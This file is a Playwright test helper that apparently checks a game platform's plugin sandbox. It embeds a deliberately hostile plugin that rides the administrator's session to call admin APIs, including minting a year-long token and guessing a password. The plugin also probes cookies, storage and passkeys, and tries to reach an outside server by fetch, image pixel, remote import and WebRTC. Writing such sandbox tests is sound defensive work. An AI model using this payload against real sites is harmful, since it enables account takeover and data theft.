import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { addAlteredGame } from './altered-game.ts';
import { patience } from './patience.ts';

/** Result of each attack: status and code of a response, `open`, `blocked`, or `absent` if the browser has no such feature. */
export type Loot = Record<string, string>;

/**
 * A game as a malicious team could publish it. It uses the administrator's session in the same browser. When it deals,
 * it attacks the origin in its orders, which a test puts into its storage, one attack after the other.
 */
const HOSTILITY = `
import game from './orderly-game.ts';

// The build contains the names of the page, but not another name of the window.
const page = window;

async function call(origin, method, path, body) {
  try {
    const answer = await page.fetch(origin + path, {
      method,
      credentials: 'include',
      ...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
    });
    return answer.ok ? String(answer.status) : answer.status + ' ' + (await answer.json()).code;
  } catch {
    return 'blocked';
  }
}

const pause = (ms) => new Promise((resolve) => page.setTimeout(resolve, ms));

/** Whether a document of the console can be read. */
async function look(documentOf) {
  for (let tries = 0; tries < 20; tries += 1) {
    try {
      if (documentOf().querySelector('form, h1, [role=tab]')) return 'open';
    } catch {}
    await pause(100);
  }
  return 'blocked';
}

/** Returns a feature of the window, or of a new frame if a script has removed it from the window. */
function find(name) {
  if (name in page) return page[name];
  const frame = page.document.createElement('iframe');
  page.document.body.append(frame);
  try {
    return frame.contentWindow[name];
  } catch {
    return undefined;
  }
}

/** Sends a packet to a UDP port of this machine by WebRTC, and a message to all documents of the origin. */
async function send(port) {
  await tryTo(() => new page.BroadcastChannel('planted').postMessage('heard'));
  const Connection = find('RTCPeerConnection');
  if (!Connection) return { webrtc: 'absent' };
  const connection = new Connection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
  connection.createDataChannel('out');
  await connection.setLocalDescription(await connection.createOffer());
  for (let tries = 0; tries < 10 && connection.iceGatheringState !== 'complete'; tries += 1) await pause(100);
  return {};
}

/** A browser may never settle the promise of a permission prompt. */
function tryTo(action) {
  const late = pause(5000).then(() => Promise.reject());
  return Promise.race([Promise.resolve().then(action), late]).then(() => 'open', () => 'blocked');
}

/** Uses a feature of the browser. */
function use(feature, action) {
  return feature in page || feature in page.navigator ? tryTo(action) : 'absent';
}

/** What the code reaches in the browser. \`out\` is the address of a server of the team. */
async function reach(out) {
  const code = page.URL.createObjectURL(new page.Blob(['export default 1'], { type: 'text/javascript' }));
  return {
    cookies: await tryTo(() => page.document.cookie),
    storage: page.localStorage.getItem('sl:planted') === null ? 'blocked' : 'open',
    database: await use('indexedDB', () => new Promise((resolve, reject) => {
      Object.assign(page.indexedDB.open('stolen'), { onsuccess: resolve, onerror: reject });
    })),
    caches: await use('caches', () => page.caches.keys()),
    pageContent: await tryTo(() => page.top.document.querySelector('h1').textContent),
    pageAddress: await tryTo(() => page.top.location.href),
    locks: await use('locks', () => page.navigator.locks.query()),
    serviceWorker: await use('serviceWorker', async () => {
      if (!(await page.navigator.serviceWorker.getRegistrations())) throw new Error();
    }),
    popup: openAndClose('about:blank'),
    request: await tryTo(() => page.fetch(out, { mode: 'no-cors' })),
    picture: await tryTo(() => new Promise((resolve, reject) => {
      Object.assign(new page.Image(), { onload: resolve, onerror: reject, src: out + '/pixel.svg' });
    })),
    module: await tryTo(() => import(/* @vite-ignore */ out + '/code.js')),
    blobModule: await tryTo(() => import(/* @vite-ignore */ code)),
    evaluation: await tryTo(() => new page.Function('return 1')()),
    worker: await use('Worker', () => new Promise((resolve, reject) => {
      Object.assign(new page.Worker(code), { onerror: reject });
      page.setTimeout(resolve, 500);
    })),
  };
}

/** Firefox throws an error where other browsers return null. */
function open(address) {
  try {
    return page.open(address);
  } catch {
    return null;
  }
}

/** A window in front of the page would slow it down. */
function openAndClose(address) {
  const opened = open(address);
  opened?.close();
  return opened ? 'open' : 'blocked';
}

async function attack(origin) {
  const key = 'memo-game';
  const id = await page.fetch('/api/games').then((answer) => answer.json()).then(
    (games) => games.find((game) => game.key === key).id,
    () => 8,
  );
  const plugin = '/api/admin/plugins/' + key;
  const reason = 'an update';
  const frame = page.document.createElement('iframe');
  frame.src = origin + '/admin';
  page.document.body.append(frame);
  const opened = open(origin + '/admin');
  return {
    window: await look(() => opened.document).finally(() => opened?.close()),
    frame: await look(() => frame.contentDocument).finally(() => frame.remove()),
    policy: await use('trustedTypes', () => page.trustedTypes.createPolicy('default', { createHTML: (html) => html })),
    passkey: await use('credentials', () =>
      page.navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
    ),
    session: await call(origin, 'GET', '/api/admin/session'),
    feedback: await call(origin, 'GET', '/api/admin/feedback'),
    tokens: await call(origin, 'GET', plugin + '/tokens'),
    toggle: await call(origin, 'PATCH', '/api/admin/games/' + id, { isActive: false }),
    token: await call(origin, 'POST', plugin + '/tokens', { name: 'mine', days: 365 }),
    release: await call(origin, 'POST', plugin + '/release', { version: '1.0.0', reason }),
    rollback: await call(origin, 'POST', plugin + '/rollback', { reason }),
    restore: await call(origin, 'POST', plugin + '/restore', { reason }),
    password: await call(origin, 'POST', '/api/admin/session/password-proof', { password: 'a good guess, perhaps' }),
  };
}

export default {
  ...game,
  deal(context) {
    // The address of a frame differs from that of its page.
    const { storage } = context.services;
    const { target, udp, out } = JSON.parse(storage.read('orders'));
    const attacks = async () => ({ ...(await send(udp)), ...(await attack(target)), ...(out && (await reach(out))) });
    attacks().then(
      (loot) => storage.write('loot', JSON.stringify(loot)),
      (error) => storage.write('loot', JSON.stringify({ error: String(error) })),
    );
    return game.deal(context);
  },
};
`;

const KEY = 'bad-faith';

export function addHostileGame(plugins: string): void {
  addAlteredGame(plugins, { key: KEY, of: 'logo-game', name: 'Hostile Game', code: HOSTILITY });
}

/** Starts a server of the team, which every request must reach to be one that the game could make. */
export async function listenOutside(): Promise<{ url: string; requests(): number; stop(): void }> {
  let requests = 0;
  const server = createServer((_request, response) => {
    requests += 1;
    response.setHeader('access-control-allow-origin', '*').end('export default 1');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, requests: () => requests, stop: () => void server.close() };
}

/**
 * Plays the hostile game in a page of the site, and returns the results of its attacks on an origin.
 * @param out address of a server that the game tries to reach; without it, only the attacks on the origin
 */
export async function playHostileGame(page: Page, site: string, target: string, out?: string): Promise<Loot> {
  let webrtc = 'blocked';
  const listener = createSocket('udp4', () => (webrtc = 'open'));
  try {
    await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
    await page.goto(`${site}/settings`);
    const orders = JSON.stringify({ target, udp: listener.address().port, out });
    await page.evaluate((text) => {
      localStorage.removeItem('sl:game-data:bad-faith:loot');
      localStorage.setItem('sl:game-data:bad-faith:orders', text);
      localStorage.setItem('sl:planted', 'yes');
    }, orders);
    await page.goto(`${site}/${KEY}`);
    await page.evaluate(() => {
      new BroadcastChannel('planted').onmessage = () => localStorage.setItem('sl:heard', 'yes');
      localStorage.removeItem('sl:heard');
    });
    await page.getByRole('button', { name: 'Start', exact: true }).click({ timeout: patience(60_000) });
    const read = (key: string) => page.evaluate((name) => localStorage.getItem(name), key);
    await expect.poll(() => read('sl:game-data:bad-faith:loot'), { timeout: patience(60_000) }).not.toBeNull();
    const loot = JSON.parse((await read('sl:game-data:bad-faith:loot'))!) as Loot;
    const broadcast = (await read('sl:heard')) === null ? 'blocked' : 'open';
    return { webrtc, ...loot, ...(out && { broadcast }) };
  } finally {
    listener.close();
  }
}
